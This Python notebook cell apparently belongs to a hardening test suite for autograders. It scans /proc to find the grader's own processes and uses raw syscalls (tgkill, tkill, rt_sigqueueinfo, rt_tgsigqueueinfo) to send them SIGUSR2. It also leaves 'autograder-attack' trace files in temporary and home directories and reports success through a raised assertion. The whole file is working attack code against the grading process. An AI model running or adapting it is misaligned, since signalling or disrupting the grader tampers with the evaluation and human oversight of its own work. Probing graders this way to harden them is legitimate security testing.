"""Tries the system calls besides kill: tgkill, tkill, rt_sigqueueinfo and rt_tgsigqueueinfo, at the grader's processes.

family: signals
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="other_ways_to_signal"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _graders():
    """The grader's own Python processes (ancestors and their children; else those that the command line names), no others."""
    import os

    def read(pid, what):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                return file.read()
        except OSError:
            return b""

    def argv(pid):
        return [os.fsdecode(part) for part in read(pid, "cmdline").split(b"\0") if part]

    def parent(pid):
        fields = read(pid, "stat").rpartition(b")")[2].split()
        return int(fields[1]) if len(fields) > 1 else 0

    def is_grader(pid, names):
        words = argv(pid)
        if pid <= 2 or pid == os.getpid() or not words or not os.path.basename(words[0]).startswith("python"):
            return False
        return any(word.startswith("autograder.") or os.path.basename(word) in names for word in words[1:4])

    names = {"autograder", "otter", "pytest", "py.test", "ipykernel_launcher"}
    found, pid = [], os.getppid()
    while pid > 2 and pid not in found and is_grader(pid, names):
        found.append(pid)
        pid = parent(pid)
    try:
        others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    for other in others:
        if other not in found and is_grader(other, names if found else {"autograder"}):
            if not found or parent(other) in found:
                found.append(other)
    return found

import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_info = ctypes.create_string_buffer(128)
ctypes.c_int.from_buffer(_info, 0).value = 12
ctypes.c_int.from_buffer(_info, 8).value = -1
for _pid in _graders():
    for _name, _arguments in (
        ("tgkill", (234, _pid, _pid, 12)),
        ("tkill", (200, _pid, 12)),
        ("rt_sigqueueinfo", (129, _pid, 12, _info)),
        ("rt_tgsigqueueinfo", (297, _pid, _pid, 12, _info)),
    ):
        try:
            if _libc.syscall(*_arguments) == 0:
                _achieved(f"{_name} sent SIGUSR2 to {_pid}")
        except Exception:
            continue
_report()
